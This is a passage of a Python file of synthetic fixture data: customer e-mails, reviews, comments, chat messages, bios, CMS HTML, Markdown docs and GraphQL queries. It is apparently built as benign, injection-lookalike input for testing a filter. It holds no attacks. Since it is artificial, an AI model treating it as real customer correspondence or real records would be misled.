    ("Webhook deliveries failing", "Hi there,\n\nSince yesterday our endpoint receives your webhooks with an empty body and the signature header missing. Nothing changed on our side. Our endpoint is https://hooks.example-retail.com/incoming/shop. Could you check the delivery logs?\n\nThanks"),
    ("Gift message typo", "Hi,\n\nI just noticed a typo in the gift message on order 61290: it says 'Happy Brithday Nan <3' and should say 'Happy Birthday Nan <3'. Any chance you can fix it before it's packed?\n\nThank you so much!"),
    ("Out of office: re: your order", "I'm out of the office until Monday 8 December with limited access to e-mail. For urgent matters please contact accounts@example-holdings.com.\n\nThanks"),
    ("Wrong size sent", "Hello,\n\nI ordered the boots in EU 41 and received EU 44. The box label says 41, the boots say 44. Can you send a prepaid return label and the right size?\n\nRegards"),
    ("Question about your privacy policy", "Hi,\n\nSection 4 of your privacy policy says you share data with 'select partners'. Which partners, exactly? And can I opt out of that without closing my account?\n\nThanks in advance"),
    ("Re: Re: Re: still waiting", "Hello,\n\nThis is my fourth e-mail about the same order. Please, could someone just call me? My number is in my account. Any time between 9 and 5 works.\n\nThanks"),
    ("Script error on checkout page", "Hi,\n\nOn the checkout page the console shows 'Uncaught TypeError: Cannot read properties of null (reading 'value')' in checkout.min.js and the Pay button stays grey. Chrome 131, Windows. Thought you'd want to know.\n\nBest"),
    ("Invoice in Japanese yen?", "お世話になっております。\n\n請求書を日本円で発行していただくことは可能でしょうか。経理の都合上、円建ての請求書が必要です。\n\nよろしくお願いいたします。"),
    ("Problème de livraison", "Bonjour,\n\nLe colis est indiqué comme livré mais je ne l'ai jamais reçu. J'habite au 12 rue de l'Église, 3e étage, porte gauche. Le livreur a peut-être laissé le colis chez un voisin ?\n\nCordialement"),
    ("Change of billing contact", "Hi,\n\nPlease update our billing contact from Dan O'Leary (leaving the company on Friday) to Ngozi Eze-O'Hara, ngozi@example-holdings.com. All future invoices should go to her.\n\nThank you"),
]

EMAIL_SIGNATURES = [
    "Siobhán O'Brien\nOperations Manager | O'Brien & Daughters Ltd\nT: +353 1 555 0147 | M: +353 87 123 4567\nwww.obrien-daughters.example",
    "--\nJean-François Lefèvre\nResponsable achats\nTél. : +33 1 23 45 67 89",
    "Best,\nMarcus\n\nSent from my iPhone",
    "Kind regards,\n\nAnne-Marie D'Souza\nFinance Team\nThis e-mail and any attachments are confidential and intended solely for the addressee. If you received it in error, please delete it and notify the sender.",
    "Thanks,\nChris \"CJ\" Jordan\nHead of IT, Example Holdings\n\"Please consider the environment before printing this e-mail.\"",
    "--\nŁukasz Wróbel\nul. Świętokrzyska 14/3, 00-050 Warszawa",
    "Regards,\nAroha Te Whare\n-- \nSent with a privacy-respecting mail client",
    "Mit freundlichen Grüßen\nHans-Peter Müller\nMüller & Söhne GmbH · Hauptstraße 17a · 50667 Köln\nGeschäftsführer: H.-P. Müller · HRB 12345",
    "田中 さくら\n株式会社サンプル 経理部\nTEL: 03-1234-5678",
    "Cheers,\nGiulia\n\n> Get Outlook for Android",
]

SUPPORT_REPLIES = [
    "Hi {first},\n\nThanks for getting in touch. I've passed this to our warehouse team and will update you within 24 hours.\n\nBest regards,\nNiamh | Customer Support",
    "Hello {first},\n\nSorry for the trouble! Could you send us your order number and a photo of the label? Then we can take it from there.\n\nKind regards,\nThe Support Team",
    "Hi {first},\n\nI've refunded the duplicate payment; it should appear on your statement in 3-5 working days.\n\nThanks for your patience,\nTom",
    "Dear {first},\n\nWe've re-sent the confirmation e-mail. Please also check your spam folder.\n\nRegards,\nSupport",
]

COMMENTS = [
    "Great write-up. One nit: in step 3 you DROP the old index before the backfill, but on a busy table you probably want to create the new one concurrently first, then drop the old.",
    "I've been running `select pg_size_pretty(pg_database_size(current_database()));` daily for years and never thought to graph it. Stealing this idea.",
    "This recipe is lovely. I swapped the butter for olive oil and it still worked, maybe 5 minutes less in the oven.",
    "Anyone else read the title as 'Union Station: select seats' and think this was about trains? Just me? OK.",
    "Counterpoint: 'rm -rf node_modules && npm install' is not a debugging strategy, it's a prayer. (I do it too.)",
    "Minor typo in the second paragraph: 'there' → 'their'. Otherwise spot on!",
    "Would love a follow-up on how you handle deletes: soft delete with a deleted_at column, or a real DELETE plus an audit table?",
    "Drop me a line if you ever run the workshop in Leeds, I'd bring half my team.",
    "As someone called O'Hara, I feel seen by the section on forms that reject apostrophes.",
    "The <details> trick for collapsible sections is neat, didn't know it rendered in Markdown.",
    "Sorry, but 'just use a cron job' ignores what happens when the job overlaps with itself. flock(1) is your friend.",
    "Printed this out and stuck it on the fridge. The kids now ask to 'execute the bedtime script'.",
    "I disagree with point 4: sometimes a plain shell script beats a 400-line YAML pipeline.",
    "Tried this on a Raspberry Pi 4 and it works, though `make -j4` needed a bigger swap file.",
    "Thank you!!! 3 hours of searching and this was the answer :)",
    "The chart in section 2 says 'alert threshold 80%' but the text says 90%. Which one is right?",
    "Where did the figure of 1 mile = 1.6 km come from? It's 1.609, so close enough, but the rounding changes the total a bit.",
    "Love how you explained joins with the seating-plan analogy. Left join = everyone on the guest list, whether or not they got a seat.",
    "For Windows folks: the equivalent of `cat file | grep foo` is `Get-Content file | Select-String foo`.",
    "Grandma says the secret ingredient is 'a pinch of whatever's in the cupboard'. Not very reproducible, but delicious.",
    "Is there an RSS feed? The /feed link in the footer goes to a 404.",
    "\"The best code is no code at all\", and the best meeting is the one that's an e-mail.",
    "We did the same migration last spring; the part nobody warns you about is updating every cron entry that hard-codes the old path.",
    "Small correction: `git push --force-with-lease` is the safer option you want in step 5, not plain --force.",
]

CHAT_MESSAGES = [
    "hi, is anyone there?", "my order says delivered but there's nothing at the door :(",
    "ok I tried that, still says 'select a valid option' on the size dropdown", "can u drop the price if I buy 3?? 😅",
    "the code SPRING25 isn't working, says expired but the email says valid till 31/5",
    "where do I find the order number? is it the one starting with #W or the long one",
    "thanks!! that fixed it 🙏", "I need to update my address, moved from Apt 4B to 5C same building",
    "it's O'Connor with an apostrophe, the label says OConnor", "had to bash the lid a bit but it opened lol. all good now",
    "do you ship to Northern Ireland or is it GB only?", "can I talk to a human pls",
    "screenshot here: https://imgur.example/a/Xk29pQ", "it keeps logging me out every 5 min, is that a security thing?",
    "how long does a refund take to show up? it's been 4 working days", "¿tienen la talla 38 en color negro?",
    "the tracking link goes to page not found → https://track.example/pkg?id=JD0146000038921",
    "ok nvm found it under Account > Orders > Returns", "is the table really 'solid oak' or veneer? the photos look like veneer tbh",
    "lol the bot just told me to 'try turning it off and on again'", "1 more question: can I pay half with gift card & half with card?",
    "my promo code is 'WELCOME10' but it says 'code not valid for selected items'??",
]

REVIEWS = [
    "Fits perfectly!!! Ordered a 10 (usually a 9½) and the size guide was spot on :)",
    "3/5. Looks great, but the 'waterproof' jacket soaked through in 20 minutes of drizzle. Meh.",
    "Don't let the price fool you ($19.99), this thing is solid. 10/10 would buy again <3",
    "Arrived a day early; box was a bit crushed but the mug survived. ☕👍",
    "The instructions say 'insert tab A into slot B'... there is no slot B. Figured it out eventually ;-)",
    "Honestly? Overpriced. Similar lamps exist at half the price. But it *is* pretty.",
    "Bought 2 for my twins: one works, one doesn't charge. Support replied within an hour & sent a replacement. Faultless.",
    "Sizes run small -> order one up. Colour is more 'burgundy' than 'red' IMO.",
    "Perfect for my daughter's room; she calls it 'the cloud lamp'. ⭐⭐⭐⭐⭐",
    "It's fine. Does what it says. Nothing more, nothing less. ¯\\_(ツ)_/¯",
    "Très bon produit, livraison rapide. Je recommande !",
    "Sehr gute Qualität, aber die Anleitung gibt es nur auf Englisch. 4/5",
    "Had high hopes... battery lasts ~4 hrs, not the '12+ hrs' advertised. Returning it :(",
    "The drill is a beast. Went through 10 cm of oak like butter. Noise level: 'the neighbours will hate you'.",
    "Great value @ £12; used it every day for 3 months & it still looks new.",
    "It's a table. It stands. It hasn't collapsed. 4 stars because one leg was 2mm short (fixed with a folded beer mat).",
    "Smells of chemicals when new; leave it outside for a day or two & the smell goes.",
    "5 stars!!!!! 😍😍😍 my cat LOVES it (she ignores the toy and sleeps in the box, as usual)",
    "Compared to my old one (brand X) this is quieter, maybe 40 dB vs 55 dB, and the filters are cheaper.",
    "\"Easy to assemble\" they said. 3 hours, 2 arguments, 1 leftover screw. Looks nice now though.",
    "Ordered the 'Select' coffee blend by mistake instead of 'Reserve'. Turns out I prefer it. Happy accident!",
    "Exactly as pictured. The 50% off deal made it a no-brainer.",
    "Works on Linux out of the box (Ubuntu 24.04), no drivers needed. `lsusb` shows it straight away.",
    "Cable is too short (1 m). Would've been 5/5 with a 2 m cable.",
    "Wife says it's 'the best thing I've bought all year'. High praise, she hates everything I buy :P",
    "Zero stars if I could. Arrived broken, and the return label wouldn't print (error 500 on your site).",
    "Good: sound, battery. Bad: the app wants location access for no reason. Neutral: colour.",
    "Recomendo! Chegou antes do prazo e muito bem embalado.",
    "とても使いやすいです。色もきれい。",
    "Pros: light, fast, cheap. Cons: the on/off switch is on the bottom. Who designed that?!",
    "Bought it for my dad (78) & he figured it out without calling me once. That's a miracle ;)",
    "A+++ seller, would order from again",
    "Not bad for the price... but the 'stainless' steel has rust spots after one wash >:(",
]

BIOS = [
    "Backend dev. I write SQL for a living and YAML against my will.",
    "Data engineer at a bank. Opinions my own. Likes: window functions, sourdough. Dislikes: SELECT *.",
    "she/her · Dublin · recovering sysadmin · survived an `rm -rf` in 2014",
    "Teacher by day, hobby game dev by night. Currently learning Rust (send help).",
    "I make small tools in Go and Bash. Occasionally they're useful.",
    "Ex-PHP, now mostly TypeScript. Still think <?php echo was a great idea for its time.",
    "Maintainer of a few small open-source libs. Mostly answer questions about regex, which is a cry for help.",
    "Product designer. I know enough CSS to be dangerous.",
    "Retired engineer from Cork. 30 years on mainframes (COBOL, JCL, DB2). Now I garden.",
    "PhD student, computational biology. Python, R, and too much coffee.",
    "DBA. Yes, I will ask you for the EXPLAIN output.",
    "Full-stack, full-time dad. Ask me about Kubernetes or nappies.",
    "Open to work! Java/Kotlin, Spring, Postgres. Based in Kraków, happy to work remotely.",
    "Tinkerer. Home lab: 3 Pis, 1 NAS, 0 free evenings.",
    "Security engineer. I break things so you don't have to (with permission!).",
    "Writing about databases at blog.example.dev. Union all the things.",
    "いつもお世話になっております。Rubyが好きです。",
    "Разработчик из Новосибирска. C++, Qt, немного Python.",
    "Dev advocate. Will happily explain the difference between ' and \" for the hundredth time.",
    "Just here to learn :)",
]

PASTE_TITLES_EXTRA = ["untitled", "for Tom", "repro for #4412", "don't lose this", "snippet", "wip", "from the standup",
                      "config diff", "what I ran", "prod vs staging", "log from last night", "asked on chat"]


# --------------------------------------------------------------------------
# CMS content: rich-text HTML as editors produce it, and Markdown
# --------------------------------------------------------------------------

CMS_HTML = [
    ("Winter opening hours", '<h2>Winter opening hours</h2><p>From <strong>1 December</strong> our Union Square store opens <em>10:00&ndash;18:00</em>, Monday to Saturday.</p><p>On Sundays we\'re closed&nbsp;&mdash; but the online shop never sleeps.</p>'),
    ("How to pick a mattress", '<p>Choosing a mattress is personal. Here\'s what our sleep team suggests:</p><ol><li><strong>Side sleepers:</strong> medium-soft, to let shoulders sink in.</li><li><strong>Back sleepers:</strong> medium-firm.</li><li><strong>Front sleepers:</strong> firm, so your hips don\'t drop.</li></ol><p>Still unsure? <a href="/contact" title="Contact us">Drop us a line</a> and we\'ll help you select the right one.</p>'),
    ("Size guide", '<table class="size-guide" style="width: 100%; border-collapse: collapse;" border="1"><thead><tr><th>UK</th><th>EU</th><th>US</th><th>Foot length (cm)</th></tr></thead><tbody><tr><td>6</td><td>39</td><td>7</td><td>24.5</td></tr><tr><td>7</td><td>40&frac12;</td><td>8</td><td>25.4</td></tr><tr><td>8</td><td>42</td><td>9</td><td>26.2</td></tr></tbody></table><p><small>Between sizes? Go up &frac12; a size.</small></p>'),
    ("Meet the makers", '<figure class="image image-style-side"><img src="/media/2026/11/workshop-800w.jpg" alt="Two people sanding a table top in a workshop" width="800" height="533" loading="lazy" srcset="/media/2026/11/workshop-400w.jpg 400w, /media/2026/11/workshop-800w.jpg 800w" sizes="(max-width: 600px) 400px, 800px"><figcaption>Niamh and Pádraig in the Galway workshop.</figcaption></figure><p>Every table is sanded by hand&hellip; twice.</p>'),
    ("Video: assembling the bunk bed", '<p>Watch the 4-minute assembly video before you start:</p><figure class="media"><iframe src="https://www.youtube-nocookie.com/embed/q8Xn2LkT0aE?rel=0" width="560" height="315" frameborder="0" allow="accelerometer; encrypted-media; gyroscope; picture-in-picture" allowfullscreen="allowfullscreen" title="Bunk bed assembly"></iframe></figure><p>Tools needed: the included Allen key and a Phillips screwdriver.</p>'),
    ("Release notes 4.2", '<h3>What\'s new in 4.2</h3><ul><li>Search now understands quotes: <code>"red shoes"</code> matches the exact phrase.</li><li>You can exclude words with a minus: <code>lamp -desk</code>.</li><li>Fixed: names with an apostrophe (O\'Neill, D\'Souza) were cut off on invoices.</li></ul><p>Full changelog on <a href="https://github.com/example/shop/releases/tag/v4.2.0" target="_blank" rel="noopener noreferrer">GitHub</a>.</p>'),
    ("Developer corner: exporting orders", '<p>Admins can export orders straight from the database if the built-in export is too slow. A query we use ourselves:</p><pre><code class="language-sql">SELECT o.number, o.placed_at, c.email, o.total\nFROM orders o JOIN customers c ON c.id = o.customer_id\nWHERE o.placed_at &gt;= \'2026-11-01\'\nORDER BY o.placed_at;</code></pre><p>Run it on the read replica, not on the primary.</p>'),
    ("Shipping to the islands", '<p style="text-align: center;"><span style="color: rgb(192, 57, 43); font-size: 18px;"><strong>Important</strong></span></p><p>Orders to the Channel Islands, the Isle of Man and the Scottish Highlands &amp; Islands take <u>2&ndash;3 extra days</u>.</p><p>Customs charges may apply to Jersey &amp; Guernsey.</p>'),
    ("Recipe: brown bread", '<h2>Brown soda bread</h2><p><em>Makes 1 loaf &middot; 45 min</em></p><ul><li>450 g wholemeal flour</li><li>1 tsp bread soda</li><li>1 tsp salt</li><li>400 ml buttermilk</li></ul><p>Mix, shape, cut a cross on top &ldquo;to let the fairies out&rdquo;, bake at 200 &deg;C for 40 minutes.</p><!-- pagebreak --><p>Tip: tap the bottom; it should sound hollow.</p>'),
    ("FAQ: returns", '<details><summary>How long do I have to return an item?</summary><p>30 days from delivery. Sale items: 14 days.</p></details><details><summary>Who pays for return shipping?</summary><p>We do, if the item is faulty. Otherwise it\'s &euro;4.95, deducted from the refund.</p></details>'),
    ("Keyboard shortcuts", '<p>Power users, rejoice:</p><table><tbody><tr><td><kbd>Ctrl</kbd> + <kbd>K</kbd></td><td>Open search</td></tr><tr><td><kbd>G</kbd> then <kbd>O</kbd></td><td>Go to orders</td></tr><tr><td><kbd>Shift</kbd> + <kbd>?</kbd></td><td>Show all shortcuts</td></tr></tbody></table>'),
    ("Announcement", '<div class="callout callout--info" data-callout="info"><p><strong>Heads-up:</strong> on Sunday 14 December between 02:00 and 04:00 (UTC) the site will be read-only while we upgrade the database. Orders placed just before will still be processed.</p></div>'),
    ("Our story", '<blockquote><p>&ldquo;We started in a garage with one lathe and a lot of optimism.&rdquo;</p><cite>&mdash; Mary-Kate O\'Connor-Walsh, co-founder</cite></blockquote><p>Twenty years later there are 40 of us, and still only one lathe.</p>'),
    ("Accessibility statement", '<h2 id="accessibility">Accessibility</h2><p>We aim to meet <abbr title="Web Content Accessibility Guidelines">WCAG</abbr> 2.2 AA. If something doesn\'t work for you, e-mail <a href="mailto:access@shop.example?subject=Accessibility%20feedback">access@shop.example</a>.</p><p lang="ga">Is féidir leat scríobh chugainn i nGaeilge freisin.</p>'),
    ("Gift guide 2026", '<h2>Gift guide: under &pound;25</h2><div class="product-grid" data-columns="3"><div class="product-card" data-sku="MUG-031"><img src="/media/products/mug-031.webp" alt="Mug with a heart"><p>&lt;3 Mug &ndash; &pound;12</p></div><div class="product-card" data-sku="SOCK-7"><img src="/media/products/sock-7.webp" alt="Striped socks"><p>Rock &rsquo;n&rsquo; roll socks &ndash; &pound;9</p></div></div>'),
    ("Pasted from Word", '<p class="MsoNormal"><span lang="EN-GB" style="font-family: Calibri, sans-serif;">Dear customers,<o:p></o:p></span></p><p class="MsoNormal"><span lang="EN-GB" style="font-family: Calibri, sans-serif;">Please note our new returns address:<o:p></o:p></span></p><p class="MsoNormal"><span style="mso-spacerun: yes;">&nbsp;</span>Unit 7, Ballymount Industrial Estate, Dublin 12<o:p></o:p></p>'),
    ("Store locator intro", '<p>Find us in 12 cities. Type your town or postcode below, or <a href="#" data-action="locate-me" role="button">use my location</a>.</p><p><img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHZpZXdCb3g9IjAgMCAxNiAxNiI+PGNpcmNsZSBjeD0iOCIgY3k9IjgiIHI9IjYiIGZpbGw9IiNjMDM5MmIiLz48L3N2Zz4=" alt="" width="16" height="16"> = store with click &amp; collect</p>'),
    ("Care instructions", '<h3>Caring for oiled oak</h3><p>Wipe spills immediately. Once a year, sand lightly (240 grit) and re-oil:</p><ol start="1" type="a"><li>Clean with a damp cloth.</li><li>Apply a thin coat of oil with a lint-free rag.</li><li>Wait 15 min, then wipe off <strong>all</strong> the excess.</li></ol><p><strong>Warning:</strong> oily rags can self-ignite. Dry them flat outdoors before disposal.</p>'),
    ("Terms: promotions", '<p>1. The &ldquo;Buy 2, get 1 free&rdquo; offer applies to selected items marked with the <span class="badge">3 for 2</span> badge.</p><p>2. The cheapest item is free. Where prices are equal, one of them is free (obviously).</p><p>3. Not combinable with other codes; one code per order; while stocks last.</p>'),
    ("Job ad: support agent", '<h2>We\'re hiring: customer support (Irish &amp; English)</h2><p>Do you enjoy untangling problems, calming people down and writing clear e-mails? Bonus points if you know what <code>SELECT</code> does or have used a ticketing tool before.</p><p><a class="button button--primary" href="/careers/support-agent-dublin?utm_source=site&amp;utm_medium=banner">Apply now &rarr;</a></p>'),
    ("Newsletter footer", '<table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px;font:14px/1.4 Arial,sans-serif;color:#666">You\'re receiving this because you signed up at shop.example.<br><a href="https://shop.example/newsletter/unsubscribe?u={{subscriber_id}}&amp;l={{list_id}}" style="color:#666">Unsubscribe</a> &middot; <a href="https://shop.example/newsletter/preferences" style="color:#666">Preferences</a></td></tr></table>'),
    ("Event: coding night", '<p>Join our monthly <strong>coding night</strong>! This time: &ldquo;Shell one-liners you should know&rdquo;, from <code>find . -name \'*.log\' -mtime +7 -delete</code> to <code>xargs -P</code>.</p><p>&#128197; Thursday 18 Dec, 18:30 &middot; &#128205; Union Street hub, room 2</p>'),
]

MARKDOWN_DOCS = [
    ("Getting started with the Orders API", '''# Getting started with the Orders API

All requests need a bearer token:

```http
GET /v2/orders?status=paid&limit=50 HTTP/1.1
Host: api.shop.example
Authorization: Bearer <your token>
```

| Parameter | Type   | Notes                              |
|-----------|--------|------------------------------------|
| `status`  | string | `paid`, `shipped` or `cancelled`   |
| `limit`   | int    | 1–200, default 20                  |
| `cursor`  | string | opaque; copy it from `next_cursor` |

See [pagination](https://docs.shop.example/api/pagination) for details.
'''),
    ("Release checklist", '''## Release checklist

- [x] Bump version in `Cargo.toml`
- [x] Update CHANGELOG.md
- [ ] Run `make test` on a clean checkout
- [ ] Tag: `git tag -a v2.4.0 -m "v2.4.0"`
- [ ] Announce in #releases

> **Note:** never tag from a dirty tree.
'''),
    ("Meeting notes 2026-12-02", '''# Meeting notes – 2 Dec

**Present:** Siobhán, Łukasz, Wei, Anne-Marie
**Apologies:** Marcus

1. Migration to Postgres 16: Łukasz ran `pg_upgrade --check`, no blockers.
2. The "drop old tables" step is postponed until finance confirms the archive export.
3. Search: union of both indexes works; select-by-category still slow (ticket SHOP-4411).

_Next meeting: Tuesday._
'''),
    ("README: csvtool", '''# csvtool

Small CLI to clean up CSV exports.

## Install

```sh
go install github.com/example/csvtool@latest
```

## Usage

```sh
csvtool --drop-empty --dedupe email < contacts.csv > clean.csv
```

Options:

* `--drop-empty`: remove rows where every field is empty
* `--dedupe COL`: keep the first row for each value of `COL`
* `--delimiter ';'`: for exports from Excel in some locales

Licence: MIT.
'''),
    ("Style guide: writing for the help centre", '''# Writing for the help centre

* Use **second person** ("you") and short sentences.
* Name buttons exactly as they appear: *Update payment method*, not "the update button".
* Don't say "simply" or "just".
* Dates: `12 December 2026`, never `12/12/26`.

| Instead of              | Write                  |
|-------------------------|------------------------|
| utilise                 | use                    |
| in order to             | to                     |
| please be advised that  | *(delete it)*          |
'''),
    ("Postmortem: checkout outage", '''# Postmortem: checkout errors, 28 Nov

**Impact:** 14% of checkouts failed for 37 minutes.

## Timeline (UTC)

- 09:02 deploy of `web@4.2.1`
- 09:05 error rate alert fires
- 09:31 rollback started
- 09:39 recovered

## Root cause

A migration added a `NOT NULL` column without a default; old pods still running `INSERT INTO orders (...)` without it failed.

## Actions

1. Add a CI check for `NOT NULL` without `DEFAULT` (owner: Wei)
2. Expand/contract migrations only ([guide](https://wiki.example/migrations))
'''),
    ("Onboarding: local setup", '''## Local setup

1. Clone: `git clone git@github.com:example/shop.git && cd shop`
2. Copy the env file: `cp .env.example .env`
3. Start services: `docker compose up -d db redis`
4. Migrate: `./manage.py migrate`
5. Load fixtures: `./manage.py loaddata demo`

If step 4 says `relation "django_migrations" does not exist`, the database isn't up yet; wait 10 s and retry.

![architecture diagram](https://wiki.example/uploads/arch-2026.png "Architecture")
'''),
    ("Product description (Markdown)", '''## Oak dining table – 180 × 90 cm

Solid European oak, oiled. Seats 6 (8 at a squeeze).

* Height: 75 cm
* Weight: 48 kg
* Delivered flat-packed; legs bolt on (≈ 20 min)

> "Sturdy enough to dance on. Please don't." – our QA team

**Care:** see [caring for oiled oak](/help/oiled-oak).
'''),
    ("Changelog", '''# Changelog

## [2.4.0] – 2026-12-04
### Added
- `--select` flag to pick columns by name (`--select "name,email"`)
- Support for `;`-separated files

### Fixed
- Names like O'Brien were split at the apostrophe when quoting was off (#212)
- `--drop` no longer deletes the header row

## [2.3.1] – 2026-11-18
### Fixed
- Crash on empty input (`index out of range`)
'''),
    ("Wiki: on-call runbook", '''# On-call runbook: "disk full" alert

1. SSH to the box: `ssh ops@web-03`
2. Check usage: `df -h /var` and `du -xh /var | sort -h | tail -20`
3. Usual suspects:
   - `/var/log/journal` → `sudo journalctl --vacuum-size=500M`
   - old Docker layers → `docker system prune -af`
4. **Don't** delete anything under `/var/lib/postgresql`.
5. Note what you did in the incident channel.
'''),
    ("Blog draft: why we picked Postgres", '''# Why we picked Postgres (again)

We evaluated three databases. Short version: Postgres won on *boring reliability*.

> Boring is a feature.

Things we rely on daily:

- `SELECT ... FOR UPDATE SKIP LOCKED` for the job queue
- `jsonb` for webhook payloads
- Partial indexes (`WHERE deleted_at IS NULL`)

Footnote: yes, we know about `UNION ALL` vs `UNION`. We have opinions.[^1]

[^1]: `UNION ALL`, unless you really need the dedupe.
'''),
    ("Support macro: refund delays", '''Hi {{ customer.first_name }},

Thanks for your patience. Your refund of **{{ refund.amount | money }}** was issued on {{ refund.date | date: "%-d %B" }}.

Banks usually take *3–5 working days* to show it. If it's not there by {{ refund.date | plus_days: 7 | date: "%-d %B" }}, reply to this e-mail and we'll chase it.

{{ agent.name }}
'''),
    ("Docs: webhook signatures", '''## Verifying webhook signatures

Each delivery has a `Shop-Signature` header: `t=<unix time>,v1=<hex HMAC-SHA256>`.

```python
expected = hmac.new(secret, f"{t}.{body}".encode(), hashlib.sha256).hexdigest()
if not hmac.compare_digest(expected, v1):
    abort(400)
```

Reject deliveries older than 5 minutes to stop replays.
'''),
    ("Forum rules", '''# Forum rules (please read!)

1. Be kind. Assume good intent.
2. Post code as text in a fenced block (` ``` `), **not** as a screenshot.
3. Include versions: `python --version`, `node -v`, OS.
4. One question per thread.
5. No "bump" posts within 24 h.

Moderators: @siobhan, @lukasz_w, @wei.ping
'''),
    ("Trip notes", '''# Dublin → Galway, 3 days

| Day | Plan                                   | Budget |
|-----|----------------------------------------|--------|
| Fri | train from Heuston 08:35 (select seats!) | €38   |
| Sat | Aran Islands ferry                     | €30    |
| Sun | Connemara drive, back by 20:00         | €45    |

- [ ] book B&B
- [x] buy rain jacket (it's Galway)
'''),
    ("API deprecation notice", '''> ⚠️ **Deprecation:** `GET /v1/search?query=` is removed on **1 March 2027**.

Use `GET /v2/search?q=` instead. Differences:

- `q` supports quotes and `-exclude` terms
- results are paginated with `cursor`, not `page`
- `sort=price:asc|price:desc|relevance`

Example: `/v2/search?q=%22table+lamp%22+-desk&sort=price:asc`
'''),
    ("Recipe card", '''### Grandma's apple tart 🍎

**Serves:** 8 · **Time:** 1 h 15 min

1. Rub 225 g butter into 350 g flour until it looks like breadcrumbs.
2. Add 1 egg + a splash of cold water; rest 30 min.
3. Slice 4 Bramleys, add 100 g sugar & a pinch of cloves.
4. Bake at 190 °C for ~45 min.

_Serve with cream, custard, or both (no judgement)._
'''),
    ("Issue template", '''## Bug report

**What happened?**
<!-- A clear description. Screenshots welcome. -->

**Steps to reproduce**
1. Go to '...'
2. Click on '...'
3. See error

**Expected behaviour**

**Environment**
- OS: [e.g. Windows 11]
- Browser: [e.g. Firefox 133]
- App version: (Settings → About)
'''),
    ("Team page", '''## The team

| Name | Role | Based in |
|------|------|----------|
| Siobhán O'Brien | Operations | Dublin |
| Łukasz Wróbel | Backend | Kraków |
| 田中 さくら | Design | 東京 |
| Chidi Okonkwo-Adeyemi | Data | Lagos |
| Zoë Hart-Lindqvist | Support lead | Stockholm |

Want to join us? See [careers](/careers).
'''),
    ("Cheat sheet: git", '''# Git cheat sheet

| Task | Command |
|------|---------|
| undo last commit, keep changes | `git reset --soft HEAD~1` |
| discard local changes to a file | `git restore path/to/file` |
| see what changed | `git diff --stat main...HEAD` |
| clean untracked files (dry run) | `git clean -nd` |
| find who changed a line | `git blame -L 40,60 src/app.py` |

<kbd>q</kbd> quits the pager.
'''),
]


# --------------------------------------------------------------------------
# GraphQL operations (query text, variables maker)
# --------------------------------------------------------------------------

GRAPHQL_OPS = [
    ("SearchProducts", '''query SearchProducts($q: String!, $first: Int = 24, $after: String) {
  search(query: $q, first: $first, after: $after) {
    totalCount
    pageInfo { hasNextPage endCursor }
    edges { node { id name slug price { amount currency } } }
  }
}''', lambda rng: {"q": rng.pick(SHOP_SEARCHES), "first": 24, "after": b64(("cursor:%d" % rng.randint(24, 480)).encode()) if rng.random() < 0.5 else None}),
    ("AddReview", '''mutation AddReview($input: ReviewInput!) {
  addReview(input: $input) { review { id rating createdAt } errors { field message } }
}''', lambda rng: {"input": {"productId": "UHJvZHVjdDo" + b64url(rng.randbytes(6)), "rating": rng.randint(1, 5), "body": rng.pick(REVIEWS)}}),
    ("Viewer", '''query Viewer {
  viewer { id displayName avatarUrl(size: 64) unreadNotifications: notifications(unread: true) { totalCount } }
}''', None),
    ("QuestionPage", '''query QuestionPage($id: ID!, $withAnswers: Boolean = true) {
  question(id: $id) {
    ...QuestionFields
    answers(first: 10, orderBy: {field: VOTES, direction: DESC}) @include(if: $withAnswers) {
      nodes { id score bodyMarkdown author { displayName } }
    }
  }
}

fragment QuestionFields on Question {
  id title tags score bodyMarkdown createdAt
}''', lambda rng: {"id": "Q_" + b64url(rng.randbytes(9)), "withAnswers": rng.random() < 0.8}),
    ("PostAnswer", '''mutation PostAnswer($questionId: ID!, $body: String!) {
  postAnswer(questionId: $questionId, bodyMarkdown: $body) { answer { id url } }
}''', lambda rng: {"questionId": "Q_" + b64url(rng.randbytes(9)), "body": answer_markdown(rng)}),
    ("UpdateAddress", '''mutation UpdateAddress($id: ID!, $address: AddressInput!) {
  updateAddress(id: $id, address: $address) { address { id formatted } userErrors { field message } }
}''', lambda rng: {"id": uuid(rng), "address": address_doc(rng)}),
    ("OrdersPage", '''query OrdersPage($status: [OrderStatus!], $since: DateTime, $first: Int!) {
  me {
    orders(status: $status, placedAfter: $since, first: $first) {
      nodes { id number placedAt total { amount currency } lines { quantity product { name } } }
    }
  }
}''', lambda rng: {"status": rng.sample(["PAID", "SHIPPED", "CANCELLED", "PENDING"], 2), "since": iso(rng, 2026), "first": 20}),
    ("CreatePaste", '''mutation CreatePaste($input: CreatePasteInput!) {
  createPaste(input: $input) { paste { id rawUrl expiresAt } }
}''', lambda rng: paste_gql_vars(rng)),
    ("TagSuggest", '''query TagSuggest($prefix: String!) {
  tags(prefix: $prefix, first: 8) { name count excerpt }
}''', lambda rng: {"prefix": rng.choice(["sql", "bash", "post", "c#", "c++", "node.", ".net", "k8", "power"])}),
    ("SendChat", '''mutation SendChat($conversationId: ID!, $text: String!, $clientMessageId: ID!) {
  sendMessage(conversationId: $conversationId, text: $text, clientMessageId: $clientMessageId) {
    message { id sentAt }
  }
}''', lambda rng: {"conversationId": uuid(rng), "text": rng.pick(CHAT_MESSAGES), "clientMessageId": uuid(rng)}),
    ("SeatMap", '''# seat picker for the events section
query SeatMap($eventId: ID!, $section: String) {
  event(id: $eventId) {
    name
    venue { name city }
    seats(section: $section, available: true) { row number priceBand }
  }
}''', lambda rng: {"eventId": str(rng.randint(100, 999)), "section": rng.choice(["Stalls", "Upper Circle", "Block C", None])}),
    ("UpdateProfile", '''mutation UpdateProfile($input: ProfileInput!) {
  updateProfile(input: $input) { profile { displayName bio website } }
}''', lambda rng: {"input": {"displayName": rng.pick(NAMES), "bio": rng.pick(BIOS), "website": rng.choice(["https://blog.example.dev", "https://example.ie/~sean", None])}}),
]


# --------------------------------------------------------------------------
# Uploads
# --------------------------------------------------------------------------

CSV_PRODUCTS = ["Oak table 180x90", "\"Select\" coffee blend, 1kg", "Union Jack cushion cover", "Rock 'n' roll socks (3-pack)",
                "Drop-leaf table", "Script font stamp set", "Mug \"<3\"", "Kettle 1.7l – stainless", "Café au lait bowl",
                "Null-modem cable, 2 m", "Sleep mask; silk", "Drill bits 1/2\" set"]
